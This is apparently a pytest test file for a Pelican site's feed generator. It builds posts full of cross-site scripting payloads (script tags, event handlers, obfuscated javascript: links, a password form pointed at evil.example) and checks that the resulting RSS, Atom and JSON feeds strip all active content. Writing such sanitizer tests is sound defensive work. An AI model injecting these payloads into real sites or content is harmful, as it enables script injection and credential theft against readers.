"""README "Feeds": hostile posts build into well-formed feeds that carry no active content."""

import logging
import re
import shutil
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup
from conftest import NETWORKING_CONTENT, SITES, BuiltSite, disconnect_plugins
from feedtools import NS, SITE, json_feed, parsed, tree
from pelican import Pelican
from pelican.settings import read_settings

# The characters XML 1.0 forbids, the C1 controls and DEL: none may reach a feed.
FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]")
CONTROL_TITLE = "Bell\x07 and escape\x1b, unit\x1f, C1\x80\x9f and \ufffe\uffff done"
HOSTILE_BODY = """Intro with a <script>alert(1)</script> script and <style>p{color:red}</style>.

<iframe src="https://evil.example/frame"></iframe>
<object data="evil.swf"></object><embed src="evil.swf">
<form action="https://evil.example/steal"><input name="password"></form>

<img src="/images/x.png" onerror="alert(2)" alt="An image with a handler" width="640" height="480">
<img src="data:image/png;base64,AAAA" alt="inline data image">
<img src="small.png" srcset="small.png 1x, /images/big.png 2x" alt="Responsive">

<p onclick="alert(3)" style="background:url(javascript:alert(4))">Click the paragraph.</p>

<a href="javascript:alert(5)">javascript link text</a>,
<a href=" JaVaScRiPt:alert(6)">spaced javascript text</a>,
<a href="java&#x09;script:alert(7)">tabbed javascript text</a>,
<a href="vbscript:msgbox(8)">vbscript link text</a>,
<a href="data:text/html,<script>alert(9)</script>">data link text</a>,
<a href="../relative/">relative link</a>, <a href="/rooted/">rooted link</a>,
<a href="#section">fragment link</a>.

<svg onload="alert(10)"><circle r="1"/></svg>

References to controls: &#1; &#x1F; &#x85; &#xFFFE; &#0;.

Emoji 😀🎉👩‍👩‍👧 and right-to-left: שלום עולם — مرحبا بالعالم — \u202eoverride\u202c.
"""
POSTS = {
    "hostile/controls.md": f"Title: {CONTROL_TITLE}\nDate: 2020-01-01\nCategory: Hostile\n\n"
    "Body with a bell \x07 and a form feed in text\x0c.\n",
    "hostile/markup.md": "Title: Hostile markup 😀 שלום\nDate: 2020-01-02\nCategory: Hostile\n"
    "Summary: A summary with <script>alert(11)</script> and <a href='javascript:x'>a link</a>.\n\n"
    + HOSTILE_BODY,
    "hostile/big.md": "Title: A two megabyte post\nDate: 2020-01-03\nCategory: Hostile\n\n"
    + "\n\n".join(f"Paragraph {n} " + "word " * 200 for n in range(2100)),
    "hostile/repost.md": "Title: A hostile repost\nDate: 2020-01-04\nCategory: Hostile\n"
    'Original_author: Eve <script>alert(12)</script>\nOriginal_site: Site " onclick="x\n'
    "Original_site_url: https://eve.example/?q='onmouseover='alert(13)'&x=1\n"
    "Original_feed: https://eve.example/feed\n"
    "Via: Via <b>bold</b>\nVia_url: https://via.example/\n\n> A quote.\n",
}
FEEDS = [
    "feeds/all.rss.xml",
    "feeds/all.atom.xml",
    "feeds/category/hostile.rss.xml",
    "feeds/category/hostile.atom.xml",
]
ACTIVE = ["script", "style", "iframe", "object", "embed", "form", "frame", "base", "meta"]


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    """Built once for the module: the 2 MB post makes this the suite's slowest site."""
    folder = tmp_path_factory.mktemp("hostile")
    content = folder / "content"
    shutil.copytree(NETWORKING_CONTENT, content)
    for name, text in POSTS.items():
        (content / "posts" / name).parent.mkdir(parents=True, exist_ok=True)
        (content / "posts" / name).write_text(text, encoding="utf-8")
    overrides = {"PATH": str(content), "OUTPUT_PATH": str(folder / "output")}
    disconnect_plugins()  # no plugin of an earlier publishconf.py build in this process
    Pelican(read_settings(str(SITES / "pelicanconf.py"), override=overrides)).run()
    return BuiltSite(folder / "output")


def _html_fragments(site):
    """Every piece of HTML any feed carries, with the feed it came from."""
    for relative in FEEDS:
        root = tree(site, relative)
        texts = root.xpath(
            "//item/description/text() | //item/content:encoded/text()"
            " | //atom:entry/atom:content/text() | //atom:entry/atom:summary/text()",
            namespaces=NS,
        )
        assert texts, relative
        for text in texts:
            yield relative, text
    for relative in ("feeds/all.json", "feeds/category/hostile.json"):
        for item in json_feed(site, relative)["items"]:
            yield relative, item["content_html"]


def test_every_feed_is_well_formed_and_parses_cleanly(hostile_site):
    for relative in FEEDS:
        tree(hostile_site, relative)
        feed = parsed(hostile_site, relative)
        # Five hostile posts in all, four of them in the "hostile" category.
        assert len(feed.entries) == (5 if "all" in relative else 4), relative


def test_no_feed_carries_active_content(hostile_site):
    for relative, fragment in _html_fragments(hostile_site):
        html = BeautifulSoup(fragment, "html.parser")
        assert not html.find(ACTIVE), (relative, html.find(ACTIVE))
        for tag in html.find_all(True):
            for name, value in tag.attrs.items():
                assert not name.lower().startswith("on"), (relative, tag)
                assert name.lower() != "style", (relative, tag)
                if name in ("href", "src", "srcset", "cite", "action"):
                    squeezed = re.sub(r"[\x00-\x20]", "", str(value)).lower()
                    assert not squeezed.startswith(("javascript:", "vbscript:", "data:")), tag
        # A script's text goes with it (the repost's author *named* "<script>" stays text).
        assert "alert(1)" not in html.get_text(), relative
        assert "alert(11)" not in html.get_text(), relative


def test_every_address_in_feed_content_is_absolute(hostile_site):
    for relative, fragment in _html_fragments(hostile_site):
        html = BeautifulSoup(fragment, "html.parser")
        for tag in html.find_all(attrs={"href": True}) + html.find_all(attrs={"src": True}):
            url = tag.get("href") or tag.get("src")
            assert urlsplit(url).scheme in ("http", "https"), (relative, tag)
        for tag in html.find_all(attrs={"srcset": True}):
            for candidate in tag["srcset"].split(","):
                assert candidate.split()[0].startswith(SITE), tag


def test_cleaning_keeps_words_images_and_their_sizes(hostile_site):
    feed = json_feed(hostile_site, "feeds/category/hostile.json")
    item = next(i for i in feed["items"] if i["title"].startswith("Hostile markup"))
    html = BeautifulSoup(item["content_html"], "html.parser")
    text = html.get_text()
    for words in ("javascript link text", "spaced javascript text", "vbscript link text"):
        assert words in text
    assert "data link text" in text
    assert "inline data image" in text  # a data: image becomes its alt text
    image = html.find("img", alt="An image with a handler")
    # 640 × 480 as written, scaled to FEED_IMAGE_MAX_WIDTH (600) in proportion.
    assert (image["src"], image["width"], image["height"]) == (f"{SITE}/images/x.png", "600", "450")
    post = item["url"]
    assert post.startswith(f"{SITE}/2020/01/")
    responsive = html.find("img", alt="Responsive")
    assert responsive["src"] == f"{post}small.png"
    assert "srcset" not in responsive.attrs  # small readers get the one image
    links = {a.get_text(): a["href"] for a in html.find_all("a")}
    assert links == {
        "relative link": f"{SITE}/2020/01/relative/",
        "rooted link": f"{SITE}/rooted/",
        "fragment link": f"{post}#section",
        # Embedded frames and plugins are no longer run: they are links to what they showed.
        "https://evil.example/frame": "https://evil.example/frame",
        f"{post}evil.swf": f"{post}evil.swf",
    }
    assert "😀🎉👩\u200d👩\u200d👧" in text
    assert "שלום עולם" in text
    assert "مرحبا بالعالم" in text
    assert item["title"] == "Hostile markup 😀 שלום"


def test_forbidden_characters_are_dropped_with_one_warning(build_site, caplog):
    with caplog.at_level(logging.WARNING):
        site = build_site(posts={"hostile/controls.md": POSTS["hostile/controls.md"]})
    warnings = [r.getMessage() for r in caplog.records if "XML 1.0 forbids" in r.getMessage()]
    assert len(warnings) == 1
    assert "controls.md" in warnings[0]
    for feed in site.output.joinpath("feeds").rglob("*.*"):
        assert not FORBIDDEN.search(feed.read_text(encoding="utf-8")), feed
    titles = [e.title for e in parsed(site, "feeds/all.atom.xml").entries]
    assert FORBIDDEN.sub("", CONTROL_TITLE) in titles


def test_hostile_repost_metadata_is_text_in_the_credit(hostile_site):
    feed = parsed(hostile_site, "feeds/all.rss.xml")
    repost = next(e for e in feed.entries if e.title == "A hostile repost")
    assert repost.source.href == "https://eve.example/feed"
    credit = BeautifulSoup(repost.content[0].value, "html.parser")
    assert "Originally published by Eve <script>alert(12)</script>" in credit.get_text()
    assert 'Site " onclick="x' in credit.get_text()
    assert "Via <b>bold</b>" in credit.get_text()
    assert not credit.find(["script", "b"])
    assert all(a["href"].startswith("https://") for a in credit.find_all("a"))
